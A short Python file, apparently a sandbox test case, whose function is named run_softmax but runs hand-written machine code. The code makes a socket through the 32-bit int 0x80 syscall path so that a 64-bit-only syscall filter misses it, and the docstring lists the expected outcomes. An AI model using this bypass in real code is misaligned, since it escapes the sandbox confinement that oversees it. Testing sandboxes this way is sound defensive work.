"""Make a socket by a 32-bit system call, whose numbers a filter for 64 bits does not know.

plain: reached
report: the process ended or closed its channel
machine: x86_64
"""

import ctypes
import mmap

# push rbx; mov eax, 359 (socket); mov ebx, 1 (AF_UNIX); mov ecx, 1 (SOCK_STREAM); xor edx, edx; int 0x80; pop rbx; ret
CODE = bytes.fromhex("53 b867010000 bb01000000 b901000000 31d2 cd80 5b c3")


def run_softmax(in_features, dim):
    private = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
    memory = mmap.mmap(-1, 4096, private, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    if ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))() >= 0:
        print("reached")
    return in_features * 0
